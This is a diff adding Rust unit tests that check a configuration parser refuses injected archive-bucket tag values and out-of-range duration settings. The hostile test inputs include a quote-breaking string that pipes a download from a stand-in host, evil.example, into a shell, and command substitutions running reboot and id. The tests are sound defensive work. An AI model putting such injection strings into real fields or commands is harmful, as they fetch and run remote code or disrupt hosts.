@@ -153,3 +153,60 @@ fn the_agentless_archive_takes_a_bucket_and_plain_paths() {
         assert!(error.contains("agentless_archive_paths"), "{error}");
     }
 }
+
+#[test]
+fn an_injected_archive_bucket_tag_is_refused_and_the_configured_policy_stands() {
+    let config = parse(&format!(
+        "{MINIMAL}[groups.defaults]\narchive_bucket = \"fleet-logs\"\n"
+    ))
+    .unwrap();
+    for hostile in [
+        "x'; curl http://evil.example/x | sh; echo '",
+        "logs$(reboot)",
+        "logs`id`",
+        "Logs",
+        "a",
+        "logs..x",
+        "192.168.1.1",
+        "-logs",
+    ] {
+        let error = config
+            .policy_for("web", &tags(&[("lifeguard:archive-bucket", hostile)]))
+            .unwrap_err();
+        assert!(error.contains("archive_bucket"), "{hostile}: {error}");
+    }
+    assert!(
+        config
+            .policy_for(
+                "web",
+                &tags(&[("lifeguard:archive-bucket", "other.logs-2")])
+            )
+            .is_ok()
+    );
+}
+
+#[test]
+fn absurd_durations_are_refused_from_tags_and_the_file() {
+    let config = parse(MINIMAL).unwrap();
+    for (key, value) in [
+        ("lifeguard:agent-grace-secs", "18446744073709551615"),
+        ("lifeguard:report-silence-secs", "9999999999"),
+        ("lifeguard:agent-grace-secs", "0"),
+        ("lifeguard:agentless-archive-timeout-secs", "7201"),
+        ("lifeguard:agentless-archive-timeout-secs", "5"),
+    ] {
+        let error = config
+            .policy_for("web", &tags(&[(key, value)]))
+            .unwrap_err();
+        assert!(error.contains("outside"), "{key}={value}: {error}");
+    }
+    let error = parse(&format!(
+        "{MINIMAL}[groups.defaults]\nreport_silence_secs = 18446744073709551615\n"
+    ))
+    .unwrap_err();
+    assert!(error.contains("report_silence_secs"), "{error}");
+    let limits = config
+        .policy_for("web", &tags(&[("lifeguard:report-silence-secs", "7200")]))
+        .unwrap();
+    assert_eq!(limits.report_silence, Duration::from_secs(7200));
+}
